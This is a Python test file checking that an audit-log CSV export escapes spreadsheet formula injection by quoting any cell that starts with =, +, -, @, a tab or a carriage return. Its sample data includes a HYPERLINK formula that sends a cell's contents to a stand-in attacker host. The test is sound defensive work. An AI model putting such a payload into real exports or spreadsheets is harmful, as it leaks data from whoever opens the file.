"""The audit CSV export (CLI and staff page) is opened in spreadsheets: a cell that starts
with = + - @ (or a tab or carriage return) must not run as a formula there."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import sqlalchemy as sa
from click.testing import CliRunner

from distserver.audit import queries
from distserver.audit.sealing import seal_pending
from distserver.cli import main
from distserver.extensions import db
from tests.audit.helpers import cli_env, key

HOSTILE = {
    "user_agent": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "path": "+SUM(1,2)",
    "actor": "@anonymous",
    "reason": "-2+3",
    "model": "\tacme/llm",
    "revision": "\r=1+1",
}
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _insert_hostile_event() -> None:
    """An anonymous request controls its user agent and the path it asked for."""
    row = {
        "occurred_at": datetime(2026, 2, 1, tzinfo=UTC),
        "tag": "download:link:refused",
        "actor_id": None,
        "address": "127.0.0.1",
        "sha256": None,
        "tier": None,
        "link_id": None,
        "data": "{}",
        **HOSTILE,
    }
    table = sa.table("audit_events", *(sa.column(k) for k in row))
    db.session.execute(sa.insert(table), [row])
    db.session.commit()


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2, rows
    return rows[1]


def test_audit_csv_export_neutralises_formula_injection(make_app) -> None:  # type: ignore[no-untyped-def]
    app = make_app("sqlite")
    with app.app_context():
        _insert_hostile_event()
        seal_pending(db.session, key(app))
        cli = CliRunner().invoke(main, ["audit", "export", "--format", "csv"], env=cli_env(app))
        assert cli.exit_code == 0, cli.output
        web = "".join(queries.export_csv(db.session, queries.EventFilter()))
        db.session.remove()

    for text in (cli.stdout, web):
        cells = _cells(text)
        assert not [c for c in cells if c.startswith(DANGEROUS_START)], cells
        # Each hostile value is still there, readable, behind one quote.
        for value in HOSTILE.values():
            assert "'" + value in cells, (value, cells)
